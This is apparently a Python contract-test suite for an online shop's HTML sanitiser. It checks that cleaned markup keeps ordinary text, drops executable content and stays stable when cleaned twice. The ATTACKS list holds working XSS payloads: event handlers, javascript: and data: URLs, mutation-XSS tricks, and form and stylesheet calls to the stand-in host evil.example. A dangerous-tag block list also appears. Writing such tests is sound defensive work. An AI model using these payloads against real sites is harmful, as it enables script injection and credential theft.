"""What whoever cleans markup promises, as tests: subclass `MarkupContract`.

    class TestMyMarkup(MarkupContract):
        @asynccontextmanager
        async def open(self):
            yield MyMarkup()

pytest and Hypothesis are all that is needed.
"""

from collections.abc import Mapping
from contextlib import AbstractAsyncContextManager
from html.parser import HTMLParser
from typing import ClassVar

from shop.adapters.contracts.stories import alone
from shop.application.ports.markup import Markup

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='//evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='//evil.example'><input name=password><button>ok</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'><base href=//evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<div" * 200,
    "<p>" * 500 + "<img/src=x/onerror=alert(1)>",
)
_RUNNING = frozenset(
    """
script style iframe object embed form input button select textarea link meta base svg math template noscript
frame frameset applet audio video source
""".split()  # noqa: SIM905 - a list of words is easier to read
)


class _Seen(HTMLParser):
    """What a browser would meet."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNNING:
            self.bad.append(tag)
        for name, value in attrs:
            scheme = "".join((value or "").split()).lower().partition(":")
            runs = name in ("href", "src") and scheme[1] and scheme[0] not in ("http", "https", "mailto")
            if name.startswith("on") or name in ("style", "srcdoc", "action", "formaction") or runs:
                self.bad.append(f"{tag}[{name}]")


def what_runs(text: str) -> list[str]:
    """Tags and attributes in it that could do more than describe."""
    seen = _Seen()
    seen.feed(text)
    seen.close()
    return seen.bad


class MarkupContract:
    """The promises of `shop.application.ports.markup.Markup`."""

    leaves_out: ClassVar[Mapping[str, str]] = {}

    def open(self) -> AbstractAsyncContextManager[Markup]:
        """What cleans."""
        raise NotImplementedError

    def open_subject(self) -> AbstractAsyncContextManager[Markup]:
        return self.open()

    @alone
    async def test_words_stay(self, subject: Markup) -> None:
        for text in ("", "Salt & Pepper", "5 > 3", "Größe “M”\nand more", "&lt;b&gt;"):
            assert subject.clean(text) == text
        assert "Linen" in subject.clean("<p>Linen <b>shirt</b></p>")
        assert "shirt" in subject.clean("<p>Linen <b>shirt</b></p>")

    @alone
    async def test_nothing_that_runs_is_left(self, subject: Markup) -> None:
        for attack in ATTACKS:
            cleaned = subject.clean(f"before {attack} after")
            assert what_runs(cleaned) == [], attack
            assert cleaned.startswith("before")

    @alone
    async def test_what_is_clean_stays_as_it_is(self, subject: Markup) -> None:
        for text in (*ATTACKS, "<p>A <a href='https://shop.example/x?a=1&b=2'>link</a> & 1 < 2</p>", "a < b"):
            once = subject.clean(text)
            assert subject.clean(once) == once
